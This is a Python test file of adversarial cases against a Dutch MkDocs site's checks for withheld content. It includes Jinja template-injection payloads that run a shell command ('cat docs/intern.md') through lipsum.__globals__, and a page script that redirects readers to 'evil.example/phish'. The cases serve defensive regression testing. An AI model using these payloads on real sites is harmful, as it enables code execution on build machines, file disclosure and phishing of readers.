"""Adversarial corpus, attacks after issue 11 was closed: roads that still fail open.

Each case is one edit of a copy of the real site, with the outcome the site SHOULD have. They were written by an
attacking session after the fix of issue 11; each fails on the code it was written against.
"""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest

from tests.adversarial.harness import Corpus
from tests.editing import NOTA, Project, Spot
from tests.site_build import ROOT

CASES = Corpus()

PAGE = "docs/tijdlijn.md"
WITHHELD_PAGE = "docs/intern.md"
SECRET_PAGE_TEXT = "Kanarie-planningstekst van de directie"
WITHHELD_ID = "6501580-kabinet-onderschrijft"
SECRET_BRON = "verslag-ambtelijk-overleg-rabat"
INTERNAL_HINT = "gebruik een macro uit de redactiehandleiding"
BOTH = ("intern", "openbaar")


def internal(name: str) -> str:
    return f"'{name}' geeft toegang tot de bestanden en instellingen van de site en mag niet in een pagina"


BEYOND_HINT = ('schrijf tekst en macro-aanroepen met vaste waarden, zoals {{ bron("evrm") }}; tekst met {{ of {% '
               "letterlijk: zet er {% raw %} ... {% endraw %} omheen")


def beyond(line: int, column: int, shown: str) -> str:
    """The refusal of Jinja beyond macro calls with literal values, at a line of PAGE."""
    return Spot(PAGE, line, column).error(f"een pagina mag alleen macro's aanroepen met vaste waarden, niet '{shown}': "
                                          "wat de controle niet vooraf kan lezen, wordt niet gebouwd", BEYOND_HINT,
                                          "pagina-jinja")


def add_withheld_page(project: Project, body: str = f"{SECRET_PAGE_TEXT}.\n",
                      title: str = "# Interne planning") -> None:
    project.write(WITHHELD_PAGE, f"---\nopenbaar: false\nweigeringsgrond: 5.1.2i\n---\n\n{title}\n\n{body}")


def withhold_kernpunt(project: Project) -> None:
    project.replace(NOTA, f"      - id: {WITHHELD_ID}\n", f"      - id: {WITHHELD_ID}\n        niet_openbaar: 5.2.1\n")


def id_named(line: int) -> str:
    return Spot(PAGE, line, 1).error(
        f"de id '{WITHHELD_ID}' staat in de tekst van een openbare pagina, maar het kernpunt is niet openbaar",
        f'verwijs met {{{{ kernpunt("{WITHHELD_ID}") }}}}, of zet de tekst tussen {{% call niet_openbaar("5.2.1") %}} '
        "en {% endcall %}", "verwijzing-niet-openbaar")


# --- Jinja roads out of a passage or to the files of the site ---------------------------------------------------------

@CASES.refused("passage-block-shown-outside-by-self", builds=BOTH)
def _(project: Project) -> list[str]:
    # A {% block %} inside a withheld passage is a template-level block: `self.geheim()` renders it anywhere, and the
    # public build, which never renders the passage, still publishes it.
    where = project.append(PAGE, '\n{% call niet_openbaar("5.2.1") %}\n{% block geheim %}Kanarie-blok geheime tekst'
                           '{% endblock %}\n{% endcall %}\n\nOpenbaar: {{ self.geheim() }}\n', at="self")
    block = project.spot(PAGE, "{% block geheim %}")
    return [beyond(block.line, 1, "{% block %}"), beyond(where.line, where.column - 3, "een attribuut (.)")]


@CASES.refused("python-internals-by-map-attribute", builds=BOTH)
def _(project: Project) -> list[str]:
    # `map(attribute=...)` is not the `attr` filter that is checked: the page runs a shell and publishes the body of
    # a withheld page (or any file of the build machine).
    add_withheld_page(project)
    where = project.append(PAGE, '\n{{ (([lipsum] | map(attribute="__globals__") | first)["os"])'
                           '.popen("cat docs/intern.md").read() }}\n', at="__globals__")
    return [beyond(where.line, 1, "een attribuut (.)")]


@CASES.refused("python-internals-by-computed-attr-name", builds=BOTH)
def _(project: Project) -> list[str]:
    # `attr` with a name that is not a constant: the check cannot see '__globals__', so it must refuse the filter.
    add_withheld_page(project)
    where = project.append(PAGE, '\n{% set u = "_" %}{{ ((lipsum | attr(u ~ u ~ "globals" ~ u ~ u))["os"])'
                           '.popen("cat docs/intern.md").read() }}\n', at="attr")
    return [beyond(where.line, 1, "{% set %}")]


# --- The id of a withheld kernpunt in a public page, in another spelling ----------------------------------------------

@CASES.refused("withheld-id-split-by-a-jinja-expression", builds=BOTH)
def _(project: Project) -> list[str]:
    withhold_kernpunt(project)
    where = project.append(PAGE, '\nZie 6501580-kabinet{{ "-onderschrijft" }}.\n', at="Zie")
    return [id_named(where.line)]


@CASES.refused("withheld-id-as-character-reference", builds=BOTH)
def _(project: Project) -> list[str]:
    # The page shows `&#45;` as a hyphen; Pagefind indexes the id as written.
    withhold_kernpunt(project)
    where = project.append(PAGE, "\nZie 6501580&#45;kabinet-onderschrijft.\n", at="Zie")
    return [id_named(where.line)]


@CASES.refused("withheld-id-as-heading-slug", builds=BOTH)
def _(project: Project) -> list[str]:
    # The heading's slug (its HTML id, the table of contents, the permalink) is the withheld id.
    withhold_kernpunt(project)
    where = project.append(PAGE, "\n## 6501580 kabinet onderschrijft\n\nTekst.\n", at="## 6501580")
    return [id_named(where.line)]


@CASES.refused("withheld-id-as-jinja-constant", builds=BOTH)
def _(project: Project) -> list[str]:
    # The check reads the page's text, not the strings its expressions print.
    withhold_kernpunt(project)
    where = project.append(PAGE, f'\nZie {{{{ "{WITHHELD_ID}" }}}}.\n', at=WITHHELD_ID)
    return [where.error(f"de id '{WITHHELD_ID}' staat in de tekst van een openbare pagina, maar het kernpunt is niet "
                        "openbaar", f'verwijs met {{{{ kernpunt("{WITHHELD_ID}") }}}}, of zet de tekst tussen '
                        '{% call niet_openbaar("5.2.1") %} en {% endcall %}', "verwijzing-niet-openbaar")]


@CASES.refused("withheld-id-as-yaml-escape-in-front-matter", builds=BOTH)
def _(project: Project) -> list[str]:
    # The check looks for the id in the lines of the front matter; YAML reads `\x2D` as the hyphen.
    withhold_kernpunt(project)
    project.write(WITHHELD_PAGE, '---\ntitle: "Over 6501580\\x2Dkabinet-onderschrijft"\n---\n\n# Intern\n\nTekst.\n')
    return [Spot(WITHHELD_PAGE, 2, 1).error(f"de id '{WITHHELD_ID}' staat in de kop van een pagina, maar het kernpunt "
                                            "is niet openbaar", "haal de id uit de kop van de pagina: de kop is altijd "
                                            "openbaar", "verwijzing-niet-openbaar")]


# --- The id of a withheld record in public data, in another spelling or as a public record's own id -----------------

@CASES.refused("withheld-id-as-character-reference-in-public-data-text", builds=BOTH)
def _(project: Project) -> list[str]:
    # The check looks for the id in the YAML text; Markdown and nh3 turn `&#45;` into the hyphen, on the note page,
    # the pages of its bronnen and onderwerpen, and in export/kernpunten.json.
    withhold_kernpunt(project)
    project.replace(NOTA, "Het Clingendael rapport concludeert",
                    "Zie 6501580&#45;kabinet-onderschrijft. Het Clingendael rapport concludeert")
    tekst = Spot(NOTA, project.line_of(NOTA, "      - id: 6501580-geen-belemmeringen\n") + 1, 9)
    return [tekst.error(f"de id '{WITHHELD_ID}' staat in de tekst van het kernpunt '6501580-geen-belemmeringen', "
                        "maar het kernpunt is niet openbaar", "haal de id weg, of markeer ook deze tekst niet openbaar",
                        "verwijzing-niet-openbaar")]


@CASES.refused("event-id-equal-to-a-withheld-kernpunt-id", builds=BOTH)
def _(project: Project) -> list[str]:
    # The event is public: its id is an anchor of the timeline, in both builds, and spells the withheld kernpunt's id.
    withhold_kernpunt(project)
    where = project.append("data/tijdlijn.yaml", f"  - id: {WITHHELD_ID}\n    datum: 2025-07-01\n    soort: brief\n"
                           "    titel: Een brief\n", at="id:")
    return [where.error(f"de id '{WITHHELD_ID}' is ook de id van een kernpunt dat niet openbaar is",
                        "kies een andere id: deze is openbaar en noemt wat is afgeschermd", "verwijzing-niet-openbaar")]


@CASES.refused("onderwerp-id-equal-to-a-withheld-bron-id", builds=BOTH)
def _(project: Project) -> list[str]:
    # The onderwerp's page is kernpunten/<id>/: the withheld bron's id is in the sitemap, the search and the nav.
    project.append("data/bronnen.yaml", f"  - id: {SECRET_BRON}\n    soort: rapport\n    titel: Verslag van het "
                   "ambtelijk overleg in Rabat\n    beschrijving: Verslag van het overleg.\n    niet_openbaar: 5.2.1\n",
                   at=SECRET_BRON)
    where = project.append("data/onderwerpen.yaml", f"  - id: {SECRET_BRON}\n    naam: Rabat\n"
                           "    beschrijving: Overleg.\n", at="id:")
    return [where.error(f"de id '{SECRET_BRON}' is ook de id van een bron die niet openbaar is",
                        "kies een andere id: deze is openbaar en noemt wat is afgeschermd", "verwijzing-niet-openbaar")]


@CASES.refused("page-file-named-after-a-withheld-kernpunt-id", builds=BOTH)
def _(project: Project) -> list[str]:
    # A page's address is public (its file name): the withheld id is in sitemap.xml and the search of the public site.
    withhold_kernpunt(project)
    where = project.write(f"docs/{WITHHELD_ID}.md", "# Achtergrond\n\nTekst.\n")
    return [where.error(f"de id '{WITHHELD_ID}' staat in de naam van een pagina, maar het kernpunt is niet openbaar",
                        "hernoem het bestand: de naam van een pagina is haar openbare adres",
                        "verwijzing-niet-openbaar")]


# --- make check passes what the build refuses ----------------------------------------------------------------------

@CASES.refused("withheld-page-title-opens-a-jinja-block", builds=BOTH)
def _(project: Project) -> list[str]:
    # The title line stays outside the passage the page becomes: a block it opens swallows the passage's own tags,
    # so both builds fail with a Jinja error that `make check` never gives.
    add_withheld_page(project, "Kanarie tekst {% endraw %}\n", title="# Interne planning {% raw %}")
    where = project.spot(WITHHELD_PAGE, "{% raw %}")
    return [where.error("de titel van een pagina die niet openbaar is, blijft openbaar en mag geen macro bevatten",
                        "schrijf de titel als gewone tekst, zonder {{ of {%", "ongeldige-waarde")]


@CASES.refused("template-outside-the-theme", builds=BOTH)
def _(project: Project) -> list[str]:
    # `template:` is checked as a path that exists, but `..` leaves the template folders: the build crashes.
    project.write(WITHHELD_PAGE, "---\ntemplate: ../mkdocs.yml\n---\n\n# Intern\n\nTekst.\n")
    return [Spot(WITHHELD_PAGE, 2, 1).error("template: het sjabloon '../mkdocs.yml' bestaat niet",
                                            "laat 'template:' weg; de site kiest zelf het sjabloon",
                                            "ongeldige-waarde")]


@CASES.refused("withheld-bron-cited-through-a-variable", builds=BOTH)
def _(project: Project) -> list[str]:
    # The check reads only a constant argument; the public build then fails with "onbekende bron", which `make check`
    # and the internal build never say.
    project.append("data/bronnen.yaml", f"  - id: {SECRET_BRON}\n    soort: rapport\n    titel: Verslag van het "
                   "ambtelijk overleg in Rabat\n    beschrijving: Verslag van het overleg.\n    niet_openbaar: 5.2.1\n",
                   at=SECRET_BRON)
    where = project.append(PAGE, f'\n{{% set b = "{SECRET_BRON}" %}}{{{{ bron(b) }}}}\n', at=SECRET_BRON)
    return [beyond(where.line, 1, "{% set %}")]  # a macro's argument is a literal: the check reads every value


@CASES.refused("macro-expression-that-fails-when-rendered", builds=BOTH)
def _(project: Project) -> list[str]:
    where = project.append(PAGE, "\n{{ 1 // 0 }}\n", at="{{")
    return [beyond(where.line, 1, "floordiv")]


@CASES.refused("front-matter-after-a-blank-line", builds=BOTH)
def _(project: Project) -> list[str]:
    # MkDocs reads a front matter only on the very first line: after a blank line `openbaar: false` is text (a
    # heading), and the whole page is public, in both builds, while `make check` passes.
    project.write(WITHHELD_PAGE, "\n---\nopenbaar: false\nweigeringsgrond: 5.1.2i\n---\n\n# Intern\n\n"
                  f"{SECRET_PAGE_TEXT}.\n")
    return [Spot(WITHHELD_PAGE, 2, 1).error("deze kop staat niet op de eerste regel: MkDocs leest haar niet, en de "
                                            "pagina zou openbaar zijn", "begin de pagina met de regel ---, zonder "
                                            "lege regel of spatie ervoor", "kop-onleesbaar")]


# --- A link in a data text to a page of this site --------------------------------------------------------------------

@CASES.refused("data-text-link-to-a-page-of-the-site", builds=BOTH)
def _(project: Project) -> list[str]:
    # A data text is shown on pages at every depth (the note, its bronnen, its onderwerpen): a relative link would be
    # published as `../tijdlijn.md`, a file the site does not have, on every one of them.
    project.replace(NOTA, "Het Clingendael rapport concludeert",
                    "Zie de [tijdlijn](../tijdlijn.md). Het Clingendael rapport concludeert")
    tekst = Spot(NOTA, project.line_of(NOTA, "      - id: 6501580-geen-belemmeringen\n") + 1, 9)
    return [tekst.error("kernpunten[6501580-externalisering].kernpunten[6501580-geen-belemmeringen].tekst: bevat een "
                        "link naar '../tijdlijn.md'", "link alleen naar een webadres (https:// of http://) of een "
                        "e-mailadres (mailto:); een pagina van deze site, die de tekst op elke diepte toont, linkt u "
                        "vanuit een pagina met nota_link, kernpunt_link of gebeurtenis_link", "onveilige-link")]


@CASES.refused("raw-html-link-to-a-missing-page", known_open="MkDocs and make check validate Markdown links only; "
                "links in a page's own HTML are not checked yet")
def _(project: Project) -> list[str]:
    # Pages may hold HTML; MkDocs neither rewrites nor validates its links, and neither does `make check`: the site
    # publishes `bestaat-niet.md`, a link that leads nowhere.
    where = project.append(PAGE, '\nZie <a href="bestaat-niet.md">dit</a>.\n', at="bestaat-niet.md")
    return [where.error("de link 'bestaat-niet.md' wijst naar bestaat-niet.md, maar die pagina of dat bestand bestaat "
                        "niet", "link naar een bestand in docs/, relatief aan deze pagina, bijvoorbeeld "
                        "notas/6501580.md", "link-kapot")]


# --- An injected script that the regenerated CSP allows ------------------------------------------------------------

def nginx_renderer():
    spec = importlib.util.spec_from_file_location("render_nginx_conf", ROOT / "scripts" / "render_nginx_conf.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@CASES.handled("page-script-in-the-shape-of-mikes-redirect", builds=BOTH)
def _(project: Project):
    # A page copies mike's redirect script with a protocol-relative "path": it has a known shape, so `make
    # nginx-conf` hashes it and the CSP lets it send every reader of the page to another host.
    project.append(PAGE, '\n<script>\n    window.location.replace(\n      "//evil.example/phish" + '
                   'window.location.search + window.location.hash\n    );\n  </script>\n', at="evil.example")

    def check(sites: dict[str, Path]) -> None:
        renderer = nginx_renderer()
        for site in sites.values():
            with pytest.raises(SystemExit, match=r"evil\.example"):
                renderer.script_hashes([site])
    return check


test_adversarial = CASES.test()
